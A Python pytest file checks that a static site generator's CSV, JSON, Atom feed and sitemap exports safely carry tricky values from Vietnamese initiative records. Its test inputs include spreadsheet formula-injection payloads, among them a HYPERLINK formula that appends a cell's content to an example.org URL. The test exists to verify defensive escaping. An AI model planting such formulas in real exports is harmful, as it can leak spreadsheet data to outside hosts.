"""What other programs read from a built site: CSV, JSON, Atom feeds and the sitemap.

Records whose title, summary, agency and tags carry ``&``, ``<``, quotes, ``]]>``,
Vietnamese in NFD and the first characters of spreadsheet formulas pass the check; the
site built from them is read back with the parsers those programs use: every feed and
the sitemap are well-formed XML that gives back each value exactly, the CSV opens as text
(a formula's first character behind ``'``), the JSON is exact.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import unicodedata
from pathlib import Path
from xml.etree import ElementTree

import pytest
from bs4 import BeautifulSoup

from generator.build import build

from .conftest import make_project

ATOM = "{http://www.w3.org/2005/Atom}"
NFD = unicodedata.normalize("NFD", "Sở Công Thương & Du lịch")
FORMULA = '=HYPERLINK("https://example.org/?x="&B2,"Xem")'
RECORDS = {
    "cong-thuc": {
        "title": FORMULA,
        "summary": '+ Giảm 30% hồ sơ trễ hạn & "nhanh" hơn ]]> < 5 ngày, viết &amp; như chữ.',
        "agency": "@SUM(1+1)",
        "tags": ["-tag", "a & b"],
    },
    "cong-thuong": {
        "title": 'Một cửa & "liên thông" < 5 ngày ]]>',
        "summary": "-Hồ sơ <= 5 ngày; ]]>&lt; giữ nguyên; 'trích' \"dẫn\".",
        "agency": NFD,
        "tags": [unicodedata.normalize("NFD", "một cửa"), "<3 & ]]>"],
    },
}


def record_text(fields: dict[str, object]) -> str:
    meta = {
        **fields,
        "province": "Đắk Lắk",
        "level": "province",
        "domains": ["procedures"],
        "status": "active",
        "started": "2024",
        "sources": [
            {
                "title": 'Bài báo & "trích" ]]> < 5',
                "publisher": NFD,
                "date": "2024-05",
                "url": "https://baodaklak.vn/bai-viet?a=1&b=2",
            }
        ],
    }
    return f"---\n{json.dumps(meta, ensure_ascii=False)}\n---\n\nNội dung & <b>đậm</b>.\n"


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("records")
    for record_id, fields in RECORDS.items():
        path = folder / "dak-lak" / f"{record_id}.md"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(record_text(fields), encoding="utf-8")
    root = make_project(tmp_path_factory.mktemp("project"), initiatives=folder)
    result = build(root)
    assert result.ok, [i.as_text() for i in result.check.issues + result.issues]
    assert result.site_dir is not None
    return result.site_dir


def test_every_feed_is_well_formed_and_gives_back_each_value(site: Path) -> None:
    feeds = sorted((site / "du-lieu").rglob("*.xml"))
    assert len(feeds) == 2  # the whole country's and Đắk Lắk's
    for feed in feeds:
        root = ElementTree.fromstring(feed.read_bytes())  # raises on ill-formed XML
        entries = {
            entry.findtext(f"{ATOM}id", "").rstrip("/").rsplit("/", 1)[-1]: entry
            for entry in root.iter(f"{ATOM}entry")
        }
        assert set(entries) == set(RECORDS), feed
        for record_id, fields in RECORDS.items():
            entry = entries[record_id]
            assert entry.findtext(f"{ATOM}title") == fields["title"]
            assert entry.findtext(f"{ATOM}summary") == fields["summary"]
            assert entry.findtext(f"{ATOM}author/{ATOM}name") == fields["agency"]


def test_the_sitemap_is_well_formed(site: Path) -> None:
    plain = (site / "sitemap.xml").read_bytes()
    assert gzip.decompress((site / "sitemap.xml.gz").read_bytes()) == plain
    urls = [
        loc.text or "" for loc in ElementTree.fromstring(plain).iter() if loc.tag.endswith("loc")
    ]
    assert any(url.endswith("/sang-kien/cong-thuc/") for url in urls)


def test_the_csv_opens_as_text_and_the_json_is_exact(site: Path) -> None:
    text = (site / "du-lieu/initiatives.csv").read_text("utf-8")
    assert text.startswith("\ufeff")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))}
    first, second = rows["cong-thuc"], rows["cong-thuong"]
    assert first["title"] == "'" + FORMULA
    assert first["summary"] == "'" + RECORDS["cong-thuc"]["summary"]  # type: ignore[operator]
    assert first["agency"] == "'@SUM(1+1)"
    assert first["tags"] == "'-tag; a & b"  # the cell's start is what a spreadsheet reads
    assert second["title"] == RECORDS["cong-thuong"]["title"]
    assert second["summary"] == "'" + RECORDS["cong-thuong"]["summary"]  # type: ignore[operator]
    assert second["agency"] == NFD  # not normalised: the record's own text
    data = json.loads((site / "du-lieu/initiatives.json").read_text("utf-8"))
    exported = {item["id"]: item for item in data["initiatives"]}
    for record_id, fields in RECORDS.items():
        assert {key: exported[record_id][key] for key in fields} == fields


def test_the_page_shows_each_value_as_text(site: Path) -> None:
    for record_id, fields in RECORDS.items():
        page = BeautifulSoup((site / "sang-kien" / record_id / "index.html").read_text("utf-8"),
                             "html.parser")  # fmt: skip
        assert page.h1 is not None  # its text, without the "¶" link to itself
        assert "".join(page.h1.find_all(string=True, recursive=False)) == fields["title"]
